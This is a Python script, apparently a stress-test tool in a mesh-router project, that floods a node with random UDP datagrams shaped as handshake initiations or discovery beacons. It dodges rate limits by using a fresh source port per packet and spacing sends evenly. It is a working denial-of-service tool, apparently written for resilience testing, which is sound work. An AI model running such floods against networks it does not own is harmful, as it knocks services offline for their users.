#!/usr/bin/env python3
"""A junk flood against a meshrouter node, as an attacker on its LAN would send it.

    flood.py {init|beacon} [--count N] [--interval S] TARGET...

TARGET is [IPV6%IFACE]:PORT or [IPV6]:PORT (a multicast group needs the %IFACE). Every --interval
seconds (default 2) each target gets --count datagrams (default 300), spread evenly over the interval
so that no rate limiter gets a quiet moment to refill in. Each datagram goes from a new socket, so from
a fresh source port: to the daemon every one is a new remote.

  init    the length of a handshake initiation (175 bytes: version 2, kind 1, the rest random), which
          passes the daemon's cheap shape check and reaches the handshake code
  beacon  the length of a discovery beacon (127 bytes: "MRB", version 2, the rest random), which passes
          the beacon parser; its MAC and signature are garbage

Runs until killed; on SIGTERM prints how many datagrams it sent (and how many sends failed) to stderr.
"""

import argparse
import os
import signal
import socket
import sys
import time

VERSION = 2  # src/core/wire/mod.rs
KIND_INIT = 1  # src/core/wire/datagram.rs
INIT_LEN = 2 + 4 + 8 + 1 + 32 + 32 + 64 + 16 + 16  # datagram.rs INIT_LEN
BEACON_MAGIC = b"MRB"  # src/core/wire/beacon.rs
BEACON_LEN = 3 + 1 + 1 + 2 + 32 + 8 + 16 + 64  # beacon.rs BEACON_LEN


def target(text):
    host, port = text.rsplit(":", 1)
    host = host.strip("[]")
    infos = socket.getaddrinfo(host, int(port), socket.AF_INET6, socket.SOCK_DGRAM)
    return infos[0][4]  # (address, port, flowinfo, scope_id)


def junk(kind):
    if kind == "init":
        return bytes([VERSION, KIND_INIT]) + os.urandom(INIT_LEN - 2)
    return BEACON_MAGIC + bytes([VERSION]) + os.urandom(BEACON_LEN - 4)


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("kind", choices=["init", "beacon"])
    parser.add_argument("targets", nargs="+", type=target)
    parser.add_argument("--count", type=int, default=300)
    parser.add_argument("--interval", type=float, default=2.0)
    args = parser.parse_args()

    sent = failed = 0

    def report(*_):
        print(f"flood.py {args.kind}: {sent} datagrams sent, {failed} sends failed", file=sys.stderr)
        sys.exit(0)

    signal.signal(signal.SIGTERM, report)
    step = args.interval / args.count
    next_at = time.monotonic()
    while True:
        for addr in args.targets:
            s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
            try:
                s.sendto(junk(args.kind), addr)
                sent += 1
            except OSError:
                failed += 1
            finally:
                s.close()
        next_at += step
        delay = next_at - time.monotonic()
        if delay > 0:
            time.sleep(delay)


if __name__ == "__main__":
    main()
